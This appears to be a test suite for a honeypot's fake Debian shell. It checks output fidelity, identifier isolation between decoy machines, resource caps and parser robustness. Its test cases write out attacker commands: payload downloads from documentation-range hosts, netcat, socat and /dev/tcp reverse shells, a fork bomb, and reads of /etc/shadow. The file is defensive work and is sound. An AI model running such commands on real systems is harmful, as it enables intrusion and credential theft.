/** The imitated shell against a real Debian 12, against itself in two installations, and against anything at all. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createPersona } from '../../src/decoy/persona/persona.ts';
import { createFileSystem, createShell } from '../../src/decoy/shell/index.ts';
import type { ShellEvent, ShellOptions } from '../../src/decoy/shell/types.ts';
import { type ExpectedOutput, listedCommands } from './command-list.ts';
import { compareAll } from './compare.ts';

const madeAt = Date.UTC(2026, 9, 1);
const now = Date.UTC(2026, 10, 22, 5);

/** A shell whose waiting costs no time. */
function shellOf(seed: string, more: Partial<ShellOptions> = {}) {
  const persona = createPersona(seed, madeAt);
  let time = now;
  const events: ShellEvent[] = [];
  const shown: string[] = [];
  const shell = createShell({
    persona,
    fs: more.fs ?? createFileSystem({ persona, now: () => time }),
    user: 'root',
    now: () => time,
    random: () => 0.5,
    pause: async (ms) => {
      time += ms;
      await Promise.resolve();
    },
    report: (event) => void events.push(event),
    write: (_, data) => void shown.push(Buffer.from(data).toString('utf8')),
    ...more,
  });
  return { shell, persona, events, shown };
}

async function run(command: string, seed = 'a', more: Partial<ShellOptions> = {}) {
  const made = shellOf(seed, more);
  const result = await made.shell.run(command, new Uint8Array());
  const text = (data: Uint8Array): string => Buffer.from(data).toString('utf8');
  return { ...made, stdout: text(result.stdout), stderr: text(result.stderr), exitCode: result.exitCode };
}

describe('against a real Debian 12', () => {
  const expected = JSON.parse(readFileSync(join(import.meta.dirname, 'expected.json'), 'utf8')) as ExpectedOutput[];

  test('the fixture holds the list', () => {
    const key = ({ group, command, isShape }: { group: string; command: string; isShape: boolean }): string =>
      `${group} ${isShape} ${command}`;
    expect(listedCommands().length).toBeGreaterThanOrEqual(300);
    expect(expected.map(key)).toEqual(listedCommands().map(key));
  });

  test('at least 95 % of the answers are the same', { timeout: 120_000 }, async () => {
    const compared = await compareAll(expected, () => now);
    const different = compared.filter(({ isEqual }) => !isEqual).map(({ expected: { command } }) => command);
    expect(compared.length).toBe(expected.length);
    expect(different.length / compared.length, different.join('\n')).toBeLessThanOrEqual(0.05);
  });
});

describe('two installations', () => {
  const recon = [
    'hostname',
    'uname -n',
    'cat /etc/hostname',
    'cat /etc/hosts',
    'cat /etc/machine-id',
    'cat /etc/passwd',
    'cat /etc/shadow',
    'cat /etc/group',
    'cat /etc/fstab',
    'cat /etc/resolv.conf',
    'cat /etc/network/interfaces',
    'cat /proc/cmdline',
    'cat /proc/sys/kernel/random/boot_id',
    'cat /proc/uptime',
    'cat /proc/meminfo',
    'cat /proc/stat',
    'cat /proc/net/dev',
    'cat /proc/net/arp',
    'cat /proc/net/route',
    'cat /proc/net/tcp',
    'cat /proc/partitions',
    'cat /proc/swaps',
    'free',
    'free -m',
    'df',
    'df -i',
    'uptime',
    'uptime -s',
    'last',
    'ls /home',
    'ls -la /home',
    'ip addr',
    'ip route',
    'ifconfig',
    'arp -a',
    'netstat -tlnp',
    'ss -tlnp',
    'ps aux',
    'ps -ef',
    'blkid',
    'lsblk',
    'hostid',
    'hostnamectl',
    'ls -li /root',
    'stat /etc/passwd',
    'hostname -I',
    'hostname -f',
    'dmesg',
    'ulimit -u',
    'cat /sys/class/net/*/address',
  ];

  test('share no word that only one installation could have', { timeout: 120_000 }, async () => {
    expect(recon.length).toBeGreaterThanOrEqual(40);
    const wordsOf = async (seed: string): Promise<Set<string>> => {
      const words = new Set<string>();
      for (const command of recon) {
        const { stdout } = await run(command, seed);
        // What looks generated: names with digits or dashes, addresses, identifiers, large numbers.
        for (const [word] of stdout.matchAll(/[0-9A-Za-z$./:_-]{5,}/g)) if (/\d/.test(word)) words.add(word);
      }
      return words;
    };
    const sets = await Promise.all(['north', 'south', 'east'].map(wordsOf));
    // What every Debian 12 shows: a fresh list is what three installations with other seeds have in common.
    const common = await wordsOf('west');
    const generated = (seed: string): string[] => {
      const p = createPersona(seed, madeAt);
      const [net] = p.interfaces;
      return [
        p.hostname,
        p.domain,
        p.machineId,
        p.bootId,
        p.disk.uuid,
        String(p.disk.totalKb),
        String(p.disk.usedKb),
        String(p.memory.totalKb),
        net?.mac ?? '',
        net?.address ?? '',
        net?.linkLocal ?? '',
        String(net?.receivedBytes),
        ...p.users.filter(({ uid }) => uid >= 1000 && uid < 60_000).map(({ name }) => name),
        ...p.logins.map(({ from }) => from),
      ];
    };
    const all = ['north', 'south', 'east', 'west'].map(generated);
    for (const [at, own] of all.entries())
      for (const other of all.slice(at + 1))
        expect(own.filter((value) => value !== '' && other.includes(value))).toEqual([]);
    // No visible word besides those of every installation is shared by two of them but a few numbers that fall together.
    const pairs = [...(sets[0] as Set<string>)].filter(
      (word) => sets[1]?.has(word) && !sets[2]?.has(word) && !common.has(word),
    );
    expect(pairs.filter((word) => !/^[\d.:%-]+$/.test(word) && word.length > 12)).toEqual([]);
  });

  test('the same seed is the same machine', () => {
    expect(createPersona('a', madeAt)).toEqual(createPersona('a', madeAt));
    expect(createPersona('b', madeAt).hostname).not.toBe(createPersona('a', madeAt).hostname);
  });
});

describe('what visitors do', () => {
  test.each([
    ['wget http://203.0.113.9/x86 -O /tmp/x', 'http://203.0.113.9/x86', '/tmp/x'],
    ['curl -s -o y https://bad.example.com/y', 'https://bad.example.com/y', 'y'],
    ['busybox tftp -g -r mips 203.0.113.9', 'tftp://203.0.113.9/mips', 'mips'],
    ['busybox ftpget 203.0.113.9 a b', 'ftp://203.0.113.9/b', 'a'],
  ])('%s is recorded and not fetched', async (command, url, destination) => {
    const { events, exitCode } = await run(command);
    expect(events.find(({ type }) => type === 'download')).toMatchObject({ url, destination });
    expect(exitCode).not.toBe(0);
  });

  test.each([
    ['nc -e /bin/sh 203.0.113.9 4444', { type: 'connect', tool: 'nc', host: '203.0.113.9', port: 4444 }],
    ['/usr/bin/ncat 203.0.113.9 9 | sh', { type: 'connect', tool: 'ncat', host: '203.0.113.9', port: 9 }],
    ['telnet evil.example.com', { type: 'connect', tool: 'telnet', host: 'evil.example.com', port: null }],
    ['socat exec:sh tcp:203.0.113.9:53', { type: 'connect', tool: 'socat', host: '203.0.113.9', port: 53 }],
    ['tftp 203.0.113.9 -c get arm7', { type: 'download', url: 'tftp://203.0.113.9/arm7' }],
    ['tftp -g -l dvr -r arm7 203.0.113.9', { type: 'download', url: 'tftp://203.0.113.9/arm7' }],
    ['ftpget -v -u anonymous 203.0.113.9 l r', { type: 'download', url: 'ftp://203.0.113.9/r', destination: 'l' }],
    ['aria2c -o x http://203.0.113.9/x', { type: 'download', url: 'http://203.0.113.9/x' }],
    ['lwp-download http://203.0.113.9/p.pl', { type: 'download', url: 'http://203.0.113.9/p.pl' }],
  ])('%s: the machine has no such program, and where it was to go is recorded', async (command, event) => {
    const { events, stderr } = await run(command);
    expect(stderr).toMatch(/command not found|No such file/);
    expect(events).toContainEqual(expect.objectContaining(event));
  });

  test('a dropped file is told with its bytes, also when it is deleted at once', async () => {
    const { events } = await run("echo -ne '\\x7fELF\\x01' > /tmp/d; echo -ne '\\x02' >> /tmp/d; rm /tmp/d");
    const files = events.flatMap((event) => (event.type === 'file' ? [event] : []));
    expect(files).toEqual([
      expect.objectContaining({ path: '/tmp/d', content: new Uint8Array([0x7f, 69, 76, 70, 1, 2]) }),
    ]);
  });

  test('passwords typed are told', async () => {
    const { events } = await run('echo "root:s3cret" | chpasswd');
    expect(events).toContainEqual({ type: 'credential', tool: 'chpasswd', user: 'root', password: 's3cret' });
  });

  test('bash connects nowhere', async () => {
    const { events, exitCode } = await run('exec 5<>/dev/tcp/203.0.113.9/4444');
    expect(events).toContainEqual({ type: 'connect', tool: 'bash /dev/tcp', host: '203.0.113.9', port: 4444 });
    expect(exitCode).toBe(1);
  });

  test.each([
    ['while :; do :; done', 'steps'],
    ['f() { f; }; f', 'depth'],
    ['yes', 'outputBytes'],
    ['sleep 100000', 'runMs'],
    // It goes on behind the prompt.
    [':(){ :|:& };:; sleep 9', 'depth'],
  ])('%s ends at a cap', { timeout: 60_000 }, async (command, cap) => {
    const { events } = await run(command);
    expect(events).toContainEqual({ type: 'cap', cap });
  });

  test('a search through the whole disk comes to its end', { timeout: 60_000 }, async () => {
    const { stdout, events } = await run('ls /proc/1/task/1/task; find / -type f | wc -l; find /proc/1 | wc -l');
    const [files = 0, ofOne = 0] = stdout.trim().split('\n').map(Number);
    expect(files).toBeGreaterThan(2000);
    // A thread has no list of threads: it would have no end.
    expect(ofOne).toBeLessThan(200);
    expect(events.filter(({ type }) => type === 'cap')).toEqual([]);
  });

  test.each([
    ['sleep 30 & kill %1; wait; echo done', 'done\n'],
    ['sleep 30 & jobs', '[1]+  Running                 sleep 30 &\n'],
    ['sleep 30 & ps -o cmd= -p $!; kill $!; ps -o cmd= -p $!', 'sleep 30\n'],
    ['false & wait $!; echo $?', '1\n'],
    ['(sleep 1; echo late) & echo early; wait', 'early\nlate\n'],
    ['[ $(echo $BASHPID) = $$ ] || echo other', 'other\n'],
    ['kill -9 1; p=$(pgrep -o cron); kill $p; kill -0 $p 2>/dev/null || echo gone', 'gone\n'],
  ])('jobs and processes: %s', async (command, expected) => {
    expect((await run(command)).stdout).toBe(expected);
  });

  test('files of one visitor are not those of another', async () => {
    const { persona } = shellOf('a');
    const [mine, theirs] = [
      createFileSystem({ persona, now: () => now }),
      createFileSystem({ persona, now: () => now }),
    ];
    await run('rm -rf /etc; echo x > /tmp/mine', 'a', { fs: mine, persona });
    expect(mine.stat('/etc/passwd').ok).toBe(false);
    expect(theirs.stat('/etc/passwd').ok).toBe(true);
    expect(theirs.stat('/tmp/mine').ok).toBe(false);
  });

  test('a terminal echoes, edits, remembers and ends', { timeout: 30_000 }, async () => {
    const { shell, shown, persona } = shellOf('a', { terminal: { term: 'xterm', columns: 80, rows: 24 } });
    const done = shell.start();
    const type = async (text: string): Promise<void> => {
      shell.input(Buffer.from(text));
      for (let turn = 0; turn < 200; turn++) await new Promise((resolve) => setImmediate(resolve));
    };
    await type('echo wrom\x7fng\r');
    await type('if true; then\recho inside\rfi\r');
    await type('\x1b[A\r');
    await type('cd /tmp\r');
    await type('exit 3\r');
    expect(await done).toBe(3);
    const text = shown.join('');
    expect(text).toContain(`root@${persona.hostname}:~# `);
    expect(text).toContain('\r\nwrong\r\n');
    expect(text).toContain('> ');
    expect(text.split('inside\r\n').length).toBeGreaterThan(2);
    expect(text).toContain(`root@${persona.hostname}:/tmp# `);
    expect(text).toMatch(/logout\r\n$/);
  });
});

describe('anything at all', () => {
  const words = [
    'echo',
    'cat',
    'ls',
    '/etc/passwd',
    '$(',
    ')',
    '`',
    '"',
    "'",
    '|',
    '&&',
    '||',
    ';',
    '&',
    '>',
    '>>',
    '<',
    '<<EOF',
    '\n',
    'EOF',
    '$x',
    '${x',
    '}',
    '{',
    'if',
    'then',
    'fi',
    'for',
    'i',
    'in',
    'do',
    'done',
    'while',
    'true',
    'case',
    'esac',
    '*',
    '[',
    ']',
    '[[',
    ']]',
    '((',
    '))',
    '\\',
    '~',
    '2>&1',
    'awk',
    "'{print $1}'",
    'sed',
    's/a/b/',
    'grep',
    '-r',
    'busybox',
    'sh',
    '-c',
    'rm',
    '-rf',
    '/',
    'find',
    'xargs',
    'printf',
    '%s',
    '\\x41',
    'test',
    '-f',
    'function',
    'f()',
    'return',
    'exit',
    'set',
    '-e',
    'trap',
    'eval',
    'exec',
    '!',
    '-',
    '--',
    '\0',
    '\xff',
  ];
  test('never throws, never hangs', { timeout: 120_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(fc.constantFrom(...words), fc.string({ maxLength: 6 })), { maxLength: 24 }),
        async (parts) => {
          const started = process.cpuUsage().user;
          const { exitCode } = await run(parts.join(' '), 'fuzz', { caps: { steps: 4000, outputBytes: 200_000 } });
          expect(exitCode).toBeGreaterThanOrEqual(0);
          expect(exitCode, `a fault of ours: ${parts.join(' ')}`).not.toBe(139);
          expect(process.cpuUsage().user - started).toBeLessThan(20_000_000);
        },
      ),
      { numRuns: 300 },
    );
  });
});
